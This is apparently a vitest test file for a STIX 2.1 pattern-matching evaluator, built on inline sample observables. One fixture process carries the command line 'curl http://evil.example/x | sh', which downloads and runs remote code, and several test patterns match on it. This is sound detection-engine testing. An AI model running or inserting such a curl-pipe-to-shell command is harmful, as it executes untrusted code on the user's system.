// STIX 2.1 Part 9 comparison semantics, one block per rule, on realistic SCOs built inline.
import { describe, expect, it } from 'vitest';
import type { ComparisonExpression } from '../ast.js';
import { parsePattern } from '../parser.js';
import { compileComparison } from './evaluate.js';
import { type ObservationView, observationFromBundle, observationFromEmbedded } from './observation.js';

type Sco = Record<string, unknown>;

const SRC = 'ipv4-addr--a1b2c3d4-0000-4000-8000-000000000001';
const DST = 'ipv4-addr--a1b2c3d4-0000-4000-8000-000000000002';
const DNS = 'domain-name--a1b2c3d4-0000-4000-8000-000000000003';
const TRAFFIC = 'network-traffic--a1b2c3d4-0000-4000-8000-000000000004';
const FILE = 'file--a1b2c3d4-0000-4000-8000-000000000005';
const POD = 'x-k8s-pod--a1b2c3d4-0000-4000-8000-000000000006';
const PROCESS = 'process--a1b2c3d4-0000-4000-8000-000000000007';
const SHA256 = 'aec070645fe53ee3b3763059376134f058cc337247c978add178b6ccdfb0019f';

const sco = (type: string, id: string, properties: Sco): Sco => ({
  type,
  spec_version: '2.1',
  id,
  ...properties,
});

const OBJECTS: readonly Sco[] = [
  sco('ipv4-addr', SRC, { value: '10.1.2.3' }),
  sco('ipv4-addr', DST, { value: '203.0.113.7', resolves_to_refs: [] }),
  sco('domain-name', DNS, { value: 'evil.example', resolves_to_refs: [DST] }),
  sco('network-traffic', TRAFFIC, {
    src_ref: SRC,
    dst_ref: DST,
    src_port: 49152,
    dst_port: 443,
    protocols: ['ipv4', 'tcp', 'tls'],
    is_active: true,
    start: '2026-01-31T12:00:00.123456789Z',
    ipfix: { minimumIpTotalLength: 40 },
  }),
  sco('file', FILE, {
    name: 'Café.sh',
    size: 4096,
    hashes: { 'SHA-256': SHA256, MD5: '0cc175b9c0f1b6a831c399e269772661' },
    magic_number_hex: '7F454C46',
    payload_bin: 'aGVsbG8=',
    mtime: 'not a timestamp',
  }),
  sco('x-k8s-pod', POD, { name: 'web-7d9f', namespace: 'shop', labels: { app: 'web' } }),
  sco('process', PROCESS, {
    pid: 4242,
    command_line: 'curl http://evil.example/x | sh',
    arguments: ['curl', 'http://evil.example/x'],
    exec_id: 'exec-1',
    k8s_pod_ref: POD,
    child_refs: ['process--a1b2c3d4-0000-4000-8000-00000000dead', SRC],
  }),
];

function view(objects: readonly Sco[] = OBJECTS): ObservationView {
  const byId = new Map(objects.map((o) => [String(o['id']), o]));
  const observed = { type: 'observed-data', object_refs: objects.map((o) => o['id']) };
  return observationFromBundle(observed, byId);
}

function comparison(text: string): ComparisonExpression {
  const result = parsePattern(text, { stixVersion: '2.1' });
  expect(result.diagnostics).toEqual([]);
  const e = result.ast?.expression;
  if (e?.kind !== 'observation') throw new Error(`not a single observation: ${text}`);
  return e.comparison;
}

const holds = (text: string, v: ObservationView = view()) => compileComparison(comparison(text))(v);

describe('observation views', () => {
  it('resolves 2.1 object_refs and skips refs that are not in the bundle', () => {
    const v = observationFromBundle({ object_refs: [SRC, 'file--missing', 7] }, view().objects);
    expect([...v.objects.keys()]).toEqual([SRC]);
    expect(observationFromBundle({}, new Map()).objects.size).toBe(0);
  });

  it('reads 2.0 embedded objects, whose refs are the dictionary keys', () => {
    const v = observationFromEmbedded({
      objects: {
        '0': { type: 'ipv4-addr', value: '198.51.100.1' },
        '1': { type: 'network-traffic', src_ref: '0', dst_port: 22 },
        '2': 'not an object',
      },
    });
    expect(v.objects.size).toBe(2);
    expect(holds("[network-traffic:src_ref.value = '198.51.100.1']", v)).toBe(true);
    expect(holds("[network-traffic:src_ref.value = '198.51.100.2']", v)).toBe(false);
  });
});

describe('one object per bracket', () => {
  it('binds AND to a single object of the type', () => {
    expect(holds("[ipv4-addr:value = '10.1.2.3' AND ipv4-addr:value = '10.1.2.3']")).toBe(true);
    // Each value exists on some ipv4-addr, but never both on the same one.
    expect(holds("[ipv4-addr:value = '10.1.2.3' AND ipv4-addr:value = '203.0.113.7']")).toBe(false);
    expect(holds("[ipv4-addr:value = '10.1.2.3' OR ipv4-addr:value = '203.0.113.7']")).toBe(true);
  });

  it('never satisfies an AND across types, and evaluates an OR across types per object', () => {
    expect(holds('[file:size = 4096 AND process:pid = 4242]')).toBe(false);
    expect(holds('[file:size = 1 OR process:pid = 4242]')).toBe(true);
    expect(holds('[file:size = 1 OR process:pid = 1]')).toBe(false);
  });

  it('matches nothing when no object has the type', () => {
    expect(holds("[user-account:user_id = '0']")).toBe(false);
    expect(holds("[user-account:user_id != '0']")).toBe(false);
  });

  it('handles long AND chains without deep recursion', () => {
    // Built by hand: a left-deep tree as deep as the parser's depth bound would never allow from text.
    const leaf = comparison('[process:pid = 4242]');
    let chain: ComparisonExpression = leaf;
    for (let i = 0; i < 20_000; i++) {
      chain = { kind: 'comparisonBinary', operator: 'AND', left: chain, right: leaf, span: leaf.span };
    }
    expect(compileComparison(chain)(view())).toBe(true);
  });
});

describe('object paths', () => {
  it('follows property steps, quoted keys and nested dictionaries', () => {
    expect(holds(`[file:hashes.'SHA-256' = '${SHA256}']`)).toBe(true);
    expect(holds("[file:hashes.'SHA-256' = 'deadbeef']")).toBe(false);
    expect(holds('[network-traffic:ipfix.minimumIpTotalLength = 40]')).toBe(true);
    expect(holds("[x-k8s-pod:labels.app = 'web']")).toBe(true);
  });

  it('compares hex hash values without regard to letter case, other dictionary values exactly', () => {
    expect(holds(`[file:hashes.'SHA-256' = '${SHA256.toUpperCase()}']`)).toBe(true);
    expect(holds("[file:hashes.MD5 IN ('0CC175B9C0F1B6A831C399E269772661')]")).toBe(true);
    expect(holds(`[file:hashes.'SHA-256' != '${SHA256.toUpperCase()}']`)).toBe(false);
    expect(holds("[x-k8s-pod:labels.app = 'WEB']")).toBe(false);
  });

  it('indexes lists with [n] and quantifies with [*]', () => {
    expect(holds("[network-traffic:protocols[0] = 'ipv4']")).toBe(true);
    expect(holds("[network-traffic:protocols[1] = 'ipv4']")).toBe(false);
    expect(holds("[network-traffic:protocols[9] = 'ipv4']")).toBe(false);
    expect(holds("[network-traffic:protocols[-1] = 'tls']")).toBe(false);
    expect(holds("[network-traffic:protocols[*] = 'tls']")).toBe(true);
    expect(holds("[network-traffic:protocols[*] = 'udp']")).toBe(false);
    expect(holds("[process:arguments[*] LIKE 'http://%']")).toBe(true);
  });

  it('dereferences _ref and _refs[*] within the observation', () => {
    expect(holds("[network-traffic:src_ref.value = '10.1.2.3']")).toBe(true);
    expect(holds("[network-traffic:dst_ref.value = '10.1.2.3']")).toBe(false);
    expect(holds("[network-traffic:dst_ref.value ISSUBSET '203.0.113.0/24']")).toBe(true);
    expect(holds("[domain-name:resolves_to_refs[*].value = '203.0.113.7']")).toBe(true);
    expect(holds("[domain-name:resolves_to_refs[0].value = '203.0.113.7']")).toBe(true);
    expect(holds("[process:k8s_pod_ref.name = 'web-7d9f' AND process:k8s_pod_ref.namespace = 'shop']")).toBe(
      true,
    );
    expect(holds("[process:k8s_pod_ref.labels.app = 'db']")).toBe(false);
    // One dangling element does not hide the resolvable one.
    expect(holds("[process:child_refs[*].value = '10.1.2.3']")).toBe(true);
  });

  it('compares a path that ends on a _ref as the identifier itself', () => {
    expect(holds(`[network-traffic:src_ref = '${SRC}']`)).toBe(true);
    expect(holds('[EXISTS network-traffic:dst_ref]')).toBe(true);
  });

  it('treats unresolvable refs as missing properties', () => {
    const lonely = view(OBJECTS.filter((o) => o['type'] !== 'x-k8s-pod'));
    expect(holds("[process:k8s_pod_ref.name = 'web-7d9f']", lonely)).toBe(false);
    expect(holds("[process:k8s_pod_ref.name != 'web-7d9f']", lonely)).toBe(false);
    expect(holds("[process:k8s_pod_ref.name NOT = 'web-7d9f']", lonely)).toBe(false);
    expect(holds('[EXISTS process:k8s_pod_ref.name]', lonely)).toBe(false);
    expect(holds('[NOT EXISTS process:k8s_pod_ref.name]', lonely)).toBe(true);
    expect(holds("[process:child_refs[0].value = '10.1.2.3']")).toBe(false);
  });
});

describe('missing properties, mismatches and NOT', () => {
  it('makes every comparison false on a missing property, including != and NOT', () => {
    for (const text of [
      "[file:mime_type = 'x']",
      "[file:mime_type != 'x']",
      "[file:mime_type NOT = 'x']",
      "[file:mime_type NOT LIKE 'x%']",
      "[file:mime_type NOT IN ('x')]",
      "[file:mime_type NOT MATCHES 'x']",
      "[file:mime_type NOT ISSUBSET '10.0.0.0/8']",
      '[file:ctime NOT < 1]',
    ]) {
      expect(holds(text), text).toBe(false);
    }
  });

  it('answers a type mismatch: = false, != true, ordering false, NOT flips the positive operator', () => {
    expect(holds("[file:size = '4096']")).toBe(false);
    expect(holds("[file:size != '4096']")).toBe(true);
    expect(holds("[file:size < 'z']")).toBe(false);
    expect(holds("[file:size >= 'a']")).toBe(false);
    expect(holds("[file:size NOT = '4096']")).toBe(true);
    expect(holds("[file:size NOT < 'z']")).toBe(true);
    expect(holds("[file:size LIKE '4%']")).toBe(false);
    expect(holds("[file:size NOT LIKE '4%']")).toBe(true);
  });

  it('implements EXISTS and NOT EXISTS on presence', () => {
    expect(holds('[EXISTS file:hashes.MD5]')).toBe(true);
    expect(holds("[EXISTS file:hashes.'SHA-512']")).toBe(false);
    expect(holds("[NOT EXISTS file:hashes.'SHA-512']")).toBe(true);
    expect(holds('[NOT EXISTS file:hashes.MD5]')).toBe(false);
    expect(holds('[EXISTS ipv4-addr:resolves_to_refs[*]]')).toBe(false);
    expect(holds('[EXISTS file:size AND NOT EXISTS file:mime_type]')).toBe(true);
  });

  it('treats JSON null as missing', () => {
    const v = view([sco('file', FILE, { name: null })]);
    expect(holds("[file:name != 'x']", v)).toBe(false);
    expect(holds('[NOT EXISTS file:name]', v)).toBe(true);
  });
});

describe('strings', () => {
  it('compares after NFC normalisation on both sides', () => {
    const decomposed = 'Cafe\u0301.sh';
    expect(holds(`[file:name = '${decomposed}']`)).toBe(true);
    expect(holds("[file:name = 'Café.sh']", view([sco('file', FILE, { name: decomposed })]))).toBe(true);
    expect(holds("[file:name = 'Cafe.sh']")).toBe(false);
    expect(holds(`[file:name LIKE '%e\u0301.sh']`)).toBe(true);
  });

  it('orders strings by code point', () => {
    expect(holds("[x-k8s-pod:name > 'web']")).toBe(true);
    expect(holds("[x-k8s-pod:name < 'web-8']")).toBe(true);
    expect(holds("[x-k8s-pod:name <= 'web-7d9f' AND x-k8s-pod:name >= 'web-7d9f']")).toBe(true);
    expect(holds("[x-k8s-pod:name < 'WEB']")).toBe(false);
  });

  it('anchors LIKE at both ends', () => {
    expect(holds("[process:command_line LIKE 'curl %| sh']")).toBe(true);
    expect(holds("[process:command_line LIKE 'curl']")).toBe(false);
    expect(holds("[process:command_line LIKE '%evil.example%']")).toBe(true);
    expect(holds("[x-k8s-pod:name LIKE 'web-____']")).toBe(true);
    expect(holds("[x-k8s-pod:name LIKE 'web-___']")).toBe(false);
    expect(holds("[x-k8s-pod:name NOT LIKE 'db-%']")).toBe(true);
  });

  it('searches MATCHES unanchored with RE2', () => {
    expect(holds("[process:command_line MATCHES 'evil\\\\.example']")).toBe(true);
    expect(holds("[process:command_line MATCHES '^sh']")).toBe(false);
    expect(holds("[process:command_line MATCHES '\\\\| *sh$']")).toBe(true);
    expect(holds("[process:command_line NOT MATCHES 'wget']")).toBe(true);
    expect(holds("[file:size MATCHES '4']")).toBe(false);
  });

  it('tests IN membership with the same equality, and IN () never matches', () => {
    expect(holds('[network-traffic:dst_port IN (80, 443, 8443)]')).toBe(true);
    expect(holds('[network-traffic:dst_port IN (80, 8080)]')).toBe(false);
    expect(holds("[network-traffic:dst_port IN ('443')]")).toBe(false);
    expect(holds("[file:name IN ('x', 'Cafe\u0301.sh')]")).toBe(true);
    expect(holds('[network-traffic:dst_port IN ()]')).toBe(false);
    expect(holds('[network-traffic:dst_port NOT IN (80)]')).toBe(true);
  });
});

describe('CIDR containment', () => {
  it('ISSUBSET holds when the value lies within the literal range', () => {
    expect(holds("[ipv4-addr:value ISSUBSET '10.0.0.0/8']")).toBe(true);
    expect(holds("[ipv4-addr:value ISSUBSET '192.168.0.0/16']")).toBe(false);
    expect(holds("[ipv4-addr:value NOT ISSUBSET '192.168.0.0/16']")).toBe(true);
    const v6 = view([sco('ipv6-addr', SRC.replace('ipv4', 'ipv6'), { value: '2001:db8::/48' })]);
    expect(holds("[ipv6-addr:value ISSUBSET '2001:db8::/32']", v6)).toBe(true);
    expect(holds("[ipv6-addr:value ISSUBSET '2001:db8::/64']", v6)).toBe(false);
  });

  it('ISSUPERSET holds when the value range contains the literal', () => {
    const net = view([sco('ipv4-addr', SRC, { value: '10.0.0.0/8' })]);
    expect(holds("[ipv4-addr:value ISSUPERSET '10.9.8.7']", net)).toBe(true);
    expect(holds("[ipv4-addr:value ISSUPERSET '11.0.0.0/16']", net)).toBe(false);
    expect(holds("[ipv4-addr:value ISSUPERSET '0.0.0.0/0']", net)).toBe(false);
  });

  it('is false for invalid addresses on either side', () => {
    expect(holds("[ipv4-addr:value ISSUBSET '10.0.0.0/40']")).toBe(false);
    expect(holds("[ipv4-addr:value ISSUBSET 'ten']")).toBe(false);
    const bad = view([sco('ipv4-addr', SRC, { value: '10.0.0.999' })]);
    expect(holds("[ipv4-addr:value ISSUBSET '0.0.0.0/0']", bad)).toBe(false);
  });
});

describe('binary and hex', () => {
  it('compares *_hex properties to h literals as bytes, case-insensitively', () => {
    expect(holds("[file:magic_number_hex = h'7f454c46']")).toBe(true);
    expect(holds("[file:magic_number_hex = h'7F454C47']")).toBe(false);
    expect(holds("[file:magic_number_hex = b'f0VMRg==']")).toBe(true);
    expect(holds("[file:magic_number_hex != h'00']")).toBe(true);
  });

  it('compares *_bin properties to b literals as bytes, whatever the padding', () => {
    expect(holds("[file:payload_bin = b'aGVsbG8=']")).toBe(true);
    expect(holds("[file:payload_bin = b'aGVsbG8']")).toBe(true);
    expect(holds("[file:payload_bin = h'68656c6c6f']")).toBe(true);
    expect(holds("[file:payload_bin = b'aGVsbA==']")).toBe(false);
  });

  it('compares encoded text to a plain string: hex case-insensitively, base64 exactly', () => {
    expect(holds("[file:magic_number_hex = '7f454c46']")).toBe(true);
    expect(holds("[file:payload_bin = 'aGVsbG8=']")).toBe(true);
    expect(holds("[file:payload_bin = 'AGVSBG8=']")).toBe(false);
  });

  it('treats a plain string property against bytes as a mismatch', () => {
    expect(holds("[file:name = h'436166c3a92e7368']")).toBe(false);
    expect(holds("[file:name != h'436166c3a92e7368']")).toBe(true);
  });
});

describe('timestamps, numbers and booleans', () => {
  it("compares t'…' literals to the nanosecond", () => {
    expect(holds("[network-traffic:start = t'2026-01-31T12:00:00.123456789Z']")).toBe(true);
    expect(holds("[network-traffic:start = t'2026-01-31T12:00:00.123456788Z']")).toBe(false);
    expect(holds("[network-traffic:start > t'2026-01-31T12:00:00.123456788Z']")).toBe(true);
    expect(holds("[network-traffic:start < t'2026-01-31T12:00:00.12345679Z']")).toBe(true);
  });

  it('treats an unparsable timestamp property as a mismatch', () => {
    expect(holds("[file:mtime = t'2026-01-31T12:00:00Z']")).toBe(false);
    expect(holds("[file:mtime != t'2026-01-31T12:00:00Z']")).toBe(true);
    expect(holds("[file:mtime > t'2026-01-31T12:00:00Z']")).toBe(false);
  });

  it('compares ints and floats numerically', () => {
    expect(holds('[file:size = 4096.0]')).toBe(true);
    expect(holds('[file:size > 4095.5 AND file:size < 4096.5]')).toBe(true);
    expect(holds('[file:size <= 4095]')).toBe(false);
    expect(holds('[network-traffic:src_port >= 49152 AND network-traffic:dst_port < 1024]')).toBe(true);
    expect(holds('[file:size < 99999999999999999999999]')).toBe(true);
  });

  it('compares booleans only with = and !=', () => {
    expect(holds('[network-traffic:is_active = true]')).toBe(true);
    expect(holds('[network-traffic:is_active != false]')).toBe(true);
    expect(holds('[network-traffic:is_active = false]')).toBe(false);
    // The grammar refuses ordering on booleans, so the tree is built by hand to test the evaluator alone.
    const equal = comparison('[network-traffic:is_active = true]');
    if (equal.kind !== 'comparison') throw new Error('not a comparison');
    for (const operator of ['<', '<=', '>', '>='] as const) {
      expect(compileComparison({ ...equal, operator })(view()), operator).toBe(false);
      expect(compileComparison({ ...equal, operator, negated: true })(view()), operator).toBe(true);
    }
    expect(holds('[network-traffic:is_active = 1]')).toBe(false);
  });
});
